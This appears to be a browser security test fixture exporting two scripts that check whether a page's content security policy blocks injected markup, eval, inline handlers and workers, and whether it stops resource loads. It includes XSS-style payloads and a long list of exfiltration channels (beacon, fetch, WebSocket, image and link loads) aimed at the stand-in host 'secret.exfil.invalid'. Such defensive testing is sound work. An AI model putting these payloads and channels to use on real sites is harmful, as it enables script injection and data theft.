/** Runs in the page what injected markup or script would try; answers what it threw and what was refused. */
export const injectEverything = `(async () => {
  const violations = new Set();
  document.addEventListener('securitypolicyviolation', (event) => {
    violations.add(event.effectiveDirective);
  });
  const thrown = [];
  const attempt = (name, run) => {
    try {
      run();
    } catch (error) {
      thrown.push(name + ': ' + error.name);
    }
  };
  const script = document.createElement('script');
  attempt('script text', () => { script.textContent = 'window.__pwned = 1'; });
  attempt('script address', () => { script.src = 'http://127.0.0.1/x.js'; });
  attempt('innerHTML', () => { document.body.innerHTML = '<img src=x onerror="window.__pwned = 1">'; });
  attempt('insertAdjacentHTML', () => document.body.insertAdjacentHTML('beforeend', '<b>x</b>'));
  attempt('document.write', () => document.write('<b>x</b>'));
  attempt('policy', () => trustedTypes.createPolicy('mine', {}));
  const handler = document.createElement('p');
  attempt('handler', () => handler.setAttribute('onclick', 'window.__pwned = 1'));
  document.body.append(handler);
  handler.click();
  // Later, so that it is the page that evaluates and not the protocol of the test.
  await new Promise((resolve) => setTimeout(() => {
    attempt('eval', () => (0, eval)('window.__pwned = 1'));
    attempt('Function', () => new Function('window.__pwned = 1')());
    const code = new Blob(['postMessage(1)'], { type: 'text/javascript' });
    attempt('worker', () => new Worker(URL.createObjectURL(code)));
    resolve();
  }, 1));
  await new Promise((resolve) => setTimeout(resolve, 100));
  return { thrown, violations: [...violations].sort(), pwned: '__pwned' in window };
})()`;

/** Everything in a page that loads by itself, or could be made to. */
export const loadEverything = `
  const at = (path) => 'http://secret.exfil.invalid/' + path;
  const put = (tag, attributes, parent = document.body) => {
    const element = document.createElement(tag);
    try {
      for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
    } catch {}
    parent.append(element);
    return element;
  };
  put('img', { src: at('img') });
  put('img', { srcset: at('srcset') + ' 1x' });
  put('img', { src: 'http://127.0.0.1/img' });
  put('source', { srcset: at('picture') }, put('picture', {}));
  put('video', { src: at('video'), poster: at('poster'), autoplay: '' });
  put('audio', { src: at('audio'), autoplay: '' });
  put('link', { rel: 'stylesheet', href: at('css') }, document.head);
  put('link', { rel: 'prefetch', href: at('prefetch') }, document.head);
  put('link', { rel: 'preconnect', href: at('') }, document.head);
  put('link', { rel: 'dns-prefetch', href: '//secret.exfil.invalid' }, document.head);
  put('link', { rel: 'modulepreload', href: at('module') }, document.head);
  put('link', { rel: 'icon', href: at('icon') }, document.head);
  put('div', {}).style.background = 'url(' + at('background') + ')';
  put('iframe', { src: at('iframe') });
  put('object', { data: at('object') });
  put('embed', { src: at('embed') });
  put('input', { type: 'image', src: at('input') });
  const svg = document.createElementNS('http://www.w3.org/2000/svg', 'svg');
  const image = document.createElementNS('http://www.w3.org/2000/svg', 'image');
  image.setAttribute('href', at('svg'));
  svg.append(image);
  document.body.append(svg);
  void fetch(at('fetch'), { mode: 'no-cors' }).catch(() => {});
  void fetch('http://127.0.0.1/fetch', { mode: 'no-cors' }).catch(() => {});
  navigator.sendBeacon(at('beacon'), 'SECRET');
  try { new WebSocket('ws://secret.exfil.invalid/'); } catch {}
  try { new EventSource(at('events')); } catch {}
  const request = new XMLHttpRequest();
  try { request.open('GET', at('xhr')); request.send(); } catch {}
  try { void new FontFace('x', 'url(' + at('font') + ')').load().catch(() => {}); } catch {}
`;
